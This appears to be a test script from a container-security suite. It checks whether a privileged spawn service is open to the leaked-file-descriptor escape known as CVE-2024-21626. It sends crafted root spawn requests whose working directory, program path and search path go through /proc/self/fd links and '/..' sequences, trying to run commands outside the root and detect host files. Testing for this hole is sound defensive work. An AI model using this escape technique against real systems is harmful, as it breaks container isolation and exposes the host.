# name: sudo-paths
# area: privilege
# about: Has the agent start a command whose directory or program lies behind a descriptor of its own (CVE-2024-21626).
# expect: blocked
# profiles: dev
# canary: ATTACK_HOST_SECRET_PATH

import array
import os
import socket
import struct
import sys

secret = os.environ.get("ATTACK_HOST_SECRET_PATH") or sys.exit(2)
PATH = "/usr/bin:/bin"


def number(value):
    low, rest = value & 127, value >> 7
    return bytes([low | 128]) + number(rest) if rest else bytes([low])


def field(tag, data):
    return number(tag << 3 | 2) + number(len(data)) + data


def sudo(argv, cwd, search=PATH):
    """What the shim says, in our own words: a SpawnRequest with argv, env, cwd and uid 0."""
    message = b"".join(field(2, word.encode()) for word in argv)
    message += field(3, field(1, b"PATH") + field(2, search.encode()))
    message += field(4, cwd.encode())
    connection = socket.socket(socket.AF_UNIX)
    connection.connect("/run/sudo.sock")
    reader, writer = os.pipe()
    null = os.open("/dev/null", os.O_RDONLY)
    streams = array.array("i", [null, writer, writer])
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, streams)]
    connection.sendmsg([struct.pack("<I", len(message))], rights)
    connection.sendall(message)
    os.close(writer)
    os.close(null)
    said = b"".join(iter(lambda: connection.recv(4096), b""))
    out = os.fdopen(reader, "rb").read()
    return said, out


def escaped(how):
    print(f"ESCAPED {how}")
    sys.exit(0)


# The way to ask works: otherwise nothing below says anything.
said, out = sudo(["readlink", "/proc/self/cwd"], "/tmp")
if out != b"/tmp\n":
    print(f"cannot ask the agent: {said!r} {out!r}")
    sys.exit(2)
above = "/.." * 12
for descriptor in range(48):
    link = f"/proc/self/fd/{descriptor}"
    said, out = sudo(["readlink", "/proc/self/cwd"], link)
    if out:
        escaped(f"a command begins in {out!r}, behind descriptor {descriptor}")
    said, out = sudo([f"{link}{above}/bin/echo", "ran"], "/")
    if out:
        escaped(f"a program outside of the root was run through descriptor {descriptor}")
    # A file that is there and no program answers otherwise than one that is not there.
    directory, name = os.path.split(secret)
    found, _ = sudo([name], "/", f"{link}{above}{directory}")
    absent, _ = sudo([name + "-absent"], "/", f"{link}{above}{directory}")
    if found != absent:
        escaped(f"a search tells which files the host has: {found!r}, {absent!r}")
print("BLOCKED no descriptor of the agent leads a command out of the root")
